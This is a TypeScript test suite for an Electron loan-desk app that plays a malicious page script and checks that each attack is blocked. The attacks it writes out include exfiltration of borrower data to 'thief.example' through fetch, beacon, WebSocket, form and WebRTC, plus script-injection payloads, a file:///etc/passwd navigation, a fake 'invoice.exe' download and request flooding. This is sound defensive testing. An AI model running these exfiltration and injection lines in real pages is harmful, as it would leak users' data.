import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { electronSuite } from '../support/electron/electron-suite.ts'
import { startForeignHost, type ForeignHost } from '../support/electron/foreign-host.ts'
import { inPage } from '../support/electron/page-script.ts'

/*
 * The attack: a script runs in Loan Desk's page. It tries to send borrowers' data out, to load more
 * code, to leave the page and to overload the main process. Every name under `.example` resolves to
 * a host of the test, which counts connections.
 */

let foreign: ForeignHost
beforeAll(async () => {
  foreign = await startForeignHost()
})
afterAll(() => foreign.close())
const suite = electronSuite(() => ({ more: [foreign.switch] }))

/** What the page tried and main blocked, according to Electron's events. */
interface TurnedAway {
  readonly navigations: string[]
  readonly downloads: string[]
}

beforeEach(async () => {
  await suite.desk.app.evaluate(({ BrowserWindow }) => {
    const shared = globalThis as unknown as { turnedAway?: TurnedAway }
    if (shared.turnedAway !== undefined) return
    const turnedAway: TurnedAway = { navigations: [], downloads: [] }
    shared.turnedAway = turnedAway
    const [window] = BrowserWindow.getAllWindows()
    if (window === undefined) throw new Error('no window')
    // Added after Loan Desk's own listeners, so that their decision is known.
    window.webContents.on('will-frame-navigate', (event) => {
      if (event.defaultPrevented) turnedAway.navigations.push(event.url)
    })
    window.webContents.session.on('will-download', (event, item) => {
      if (event.defaultPrevented) turnedAway.downloads.push(item.getURL())
    })
  })
})

const turnedAway = (): Promise<TurnedAway> =>
  suite.desk.app.evaluate(() => (globalThis as unknown as { turnedAway: TurnedAway }).turnedAway)
const windows = (): Promise<number> =>
  suite.desk.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)

describe('the page', () => {
  it('gets two frozen functions and nothing of Node or Electron', async () => {
    const seen = await inPage(suite.page, () => {
      const page = globalThis as unknown as { loanDesk: object }
      const known = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global']
      try {
        page.loanDesk = {}
      } catch {
        // The property is read-only.
      }
      return {
        api: Object.keys(page.loanDesk).sort(),
        frozen: Object.isFrozen(page.loanDesk),
        others: known.filter((name) => name in globalThis),
      }
    })
    expect(seen).toEqual({ api: ['request', 'subscribe'], frozen: true, others: [] })
  })
})

describe('a script in the page', () => {
  it('can’t create more code: no inline script, and no text that becomes a script or markup', async () => {
    const ran = await inPage(suite.page, async () => {
      const page = globalThis as unknown as Record<string, unknown>
      const attempts: Record<string, () => unknown> = {
        inline: () => {
          const script = document.createElement('script')
          script.text = 'globalThis.ranInline = true'
          document.body.append(script)
        },
        attribute: () => {
          const button = document.createElement('button')
          button.setAttribute('onclick', 'globalThis.ranAttribute = true')
          document.body.append(button)
          button.click()
        },
        markup: () => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ranMarkup = true">')
        },
        written: () => {
          const old = document as unknown as { write(text: string): void }
          old.write('<script>ranWritten = true</script>')
        },
        eval: () => Reflect.apply(globalThis.eval, null, ['globalThis.ranEval = true']) as unknown,
        function: () => {
          const made: unknown = Reflect.construct(Function, ['globalThis.ranFunction = true'])
          ;(made as () => void)()
        },
        timer: () => setTimeout('globalThis.ranTimer = true' as unknown as () => void),
        policy: () => {
          const { trustedTypes } = globalThis as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown }
          }
          trustedTypes.createPolicy('mine', {})
          page['ranPolicy'] = true
        },
        dataScript: () => {
          const script = document.createElement('script')
          script.src = 'data:text/javascript,globalThis.ranData=true'
          document.body.append(script)
        },
      }
      const stopped: string[] = []
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt()
        } catch {
          stopped.push(name)
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 50))
      return { ran: Object.keys(page).filter((name) => name.startsWith('ran')), stopped }
    })
    expect(ran.ran).toEqual([])
    expect(ran.stopped).toEqual(
      expect.arrayContaining(['inline', 'markup', 'written', 'eval', 'function', 'policy']),
    )
  })

  it('reaches no other origin by fetch, socket, beacon, image, frame, worker or form', async () => {
    const reached = await inPage(suite.page, async () => {
      const got: string[] = []
      const outcome = (name: string, attempt: Promise<unknown>) =>
        attempt.then(
          () => got.push(name),
          () => undefined,
        )
      const element = (tag: string, set: Record<string, string>) =>
        new Promise((resolve, reject) => {
          const made = document.createElement(tag)
          made.addEventListener('load', resolve)
          made.addEventListener('error', reject)
          Object.assign(made, set)
          document.body.append(made)
          setTimeout(reject, 1_000)
        })
      const outside = 'http://thief.example/?data=borrower'
      await Promise.all([
        outcome('fetch', fetch(outside, { mode: 'no-cors' })),
        outcome('loopback', fetch('http://127.0.0.1:1/')),
        outcome('own origin', fetch('/index.html')),
        outcome('image', element('img', { src: outside })),
        outcome('style', element('link', { rel: 'stylesheet', href: outside })),
        outcome('module', element('link', { rel: 'modulepreload', href: outside })),
        outcome(
          'socket',
          new Promise((resolve, reject) => {
            const socket = new WebSocket('ws://thief.example/')
            socket.addEventListener('open', resolve)
            socket.addEventListener('error', reject)
          }),
        ),
        outcome(
          'worker',
          new Promise((resolve, reject) => {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
            worker.addEventListener('message', resolve)
            worker.addEventListener('error', reject)
          }),
        ),
        outcome('service worker', navigator.serviceWorker.register('/worker.js')),
      ])
      navigator.sendBeacon(outside, 'borrower')
      for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) {
        const hint = document.createElement('link')
        hint.rel = rel
        hint.href = outside
        document.head.append(hint)
      }
      const frame = document.createElement('iframe')
      frame.src = outside
      const form = document.createElement('form')
      form.action = outside
      form.method = 'post'
      document.body.append(frame, form)
      form.submit()
      return got
    })
    expect(reached).toEqual([])
    expect(foreign.connections()).toBe(0)
    expect(suite.page.url()).toBe('app://desk/')

    // The host is reachable if nothing blocks the request.
    await suite.desk.app.evaluate(({ net }) => net.fetch('http://thief.example/'))
    expect(foreign.connections()).toBe(1)
  })

  it('can’t reach a WebRTC peer, which no content security policy covers', async () => {
    const before = foreign.connections()
    const attempt = async (turn: string): Promise<boolean> => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: turn, username: 'data of a borrower', credential: 'x' }],
      })
      const gathered = new Promise((resolve) => {
        connection.addEventListener('icegatheringstatechange', () => {
          if (connection.iceGatheringState === 'complete') resolve(null)
        })
      })
      connection.createDataChannel('borrower')
      await connection.setLocalDescription(await connection.createOffer())
      await gathered
      connection.close()
      return true
    }
    const turn = `turn:127.0.0.1:${foreign.port}?transport=tcp`
    expect(await suite.page.evaluate(attempt, turn)).toBe(true)
    expect(foreign.connections()).toBe(before)
    const policy = await suite.desk.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.webContents.getWebRTCIPHandlingPolicy(),
    )
    expect(policy).toBe('disable_non_proxied_udp')
  })

  it('stays on the page', async () => {
    const addresses = [
      'file:///etc/passwd',
      'http://thief.example/',
      'app://elsewhere/',
      'app://desk/assets/none.html',
    ]
    for (const address of addresses) {
      await suite.page.evaluate((to) => {
        location.href = to
      }, address)
    }
    // Chromium itself doesn't let a page open a file; main blocks the rest.
    await expect
      .poll(async () => (await turnedAway()).navigations)
      .toEqual(expect.arrayContaining(addresses.slice(1)))
    expect(suite.page.url()).toBe('app://desk/')
    // Playwright still waits for the navigations, so this evaluates in the page instead of a
    // locator.
    const kept = await suite.page.evaluate(() => document.querySelectorAll('[role=option]').length)
    expect(kept).toBeGreaterThan(0)
  })

  it('opens no window', async () => {
    const opened = await suite.page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'http://thief.example/two'
      link.target = '_blank'
      document.body.append(link)
      link.click()
      return ['http://thief.example/', 'about:blank', 'app://desk/'].map(
        (address) => globalThis.open(address) === null,
      )
    })
    expect(opened).toEqual([true, true, true])
    expect(await windows()).toBe(1)
  })

  it('starts no download', async () => {
    await suite.page.evaluate(() => {
      for (const href of [
        'data:application/octet-stream,borrower',
        URL.createObjectURL(new Blob(['borrower'])),
      ]) {
        const link = document.createElement('a')
        link.href = href
        link.download = 'invoice.exe'
        document.body.append(link)
        link.click()
      }
    })
    await expect
      .poll(async () => (await turnedAway()).downloads)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^data:/) as string,
          expect.stringMatching(/^blob:/) as string,
        ]),
      )
  })

  it('gets no permission but to write text to the clipboard', async () => {
    const asked = await inPage(suite.page, async () => {
      const state = async (name: string) =>
        (await navigator.permissions.query({ name: name as PermissionName })).state
      const outcome = (attempt: () => Promise<unknown>) =>
        attempt().then(
          () => 'granted',
          () => 'denied',
        )
      const devices = globalThis.navigator as unknown as Readonly<
        Record<'hid' | 'usb', { getDevices(): Promise<unknown> }>
      > & { readonly serial: { getPorts(): Promise<unknown> } }
      const { queryLocalFonts } = globalThis as unknown as {
        queryLocalFonts(): Promise<unknown>
      }
      return {
        geolocation: await state('geolocation'),
        notifications: await state('notifications'),
        midi: await state('midi'),
        notification: await Notification.requestPermission(),
        camera: await outcome(() => navigator.mediaDevices.getUserMedia({ video: true })),
        screen: await outcome(() => navigator.mediaDevices.getDisplayMedia()),
        read: await outcome(() => navigator.clipboard.readText()),
        hid: await outcome(() => devices.hid.getDevices()),
        usb: await outcome(() => devices.usb.getDevices()),
        serial: await outcome(() => devices.serial.getPorts()),
        fonts: await outcome(() => queryLocalFonts()),
      }
    })
    expect(new Set(Object.values(asked))).toEqual(new Set(['denied']))
    // Chromium lets only a focused page write to the clipboard; an officer's click focuses it.
    await suite.page.mouse.click(400, 300)
    const written = await suite.page.evaluate(() =>
      navigator.clipboard.writeText('copied').then(
        () => 'written',
        (cause: unknown) => String(cause),
      ),
    )
    expect(written).toBe('written')
  })

  it('can’t pass values to main that can’t be cloned, and gets plain answers only', async () => {
    const responses = await inPage(suite.page, async () => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: { request(channel: unknown, payload: unknown): Promise<unknown> }
      }
      const outcome = async (channel: unknown, payload: unknown) => {
        try {
          const result = (await loanDesk.request(channel, payload)) as {
            error?: { code: string }
          }
          return result.error?.code ?? 'answered'
        } catch {
          return 'threw'
        }
      }
      const deep: Record<string, unknown> = {}
      let at = deep
      for (let depth = 0; depth < 100; depth += 1) at = at['in'] = {} as typeof at
      return [
        await outcome('settings.read', {}),
        await outcome('settings.read', { then: () => undefined }),
        await outcome('settings.read', new Map([['a', 1]])),
        await outcome('settings.read', new Date(0)),
        await outcome('settings.read', JSON.parse('{"__proto__":{"ok":true}}')),
        await outcome('settings.read', deep),
        await outcome('constructor', {}),
        await outcome({ toString: 'settings.read' }, {}),
        await outcome(undefined, undefined),
      ]
    })
    expect(responses).toEqual([
      'answered',
      'threw',
      'payload-invalid',
      'payload-invalid',
      // The bridge drops the property of that name; an empty payload remains.
      'answered',
      'payload-too-large',
      'channel-unknown',
      'channel-unknown',
      'channel-unknown',
    ])
  })

  it('that sends endless requests gets a response each time, and refusals from some point on', async () => {
    const codes = await inPage(suite.page, async () => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: {
          request(channel: string, payload: unknown): Promise<{ error?: { code: string } }>
        }
      }
      const asked = Array.from({ length: 3_000 }, () => loanDesk.request('settings.read', {}))
      const responses = await Promise.all(asked)
      return responses.map(({ error }) => error?.code ?? 'answered')
    })
    expect(codes).toHaveLength(3_000)
    expect(new Set(codes)).toEqual(new Set(['answered', 'too-many-requests']))
    expect(codes.slice(0, 500)).not.toContain('too-many-requests')
  })
})
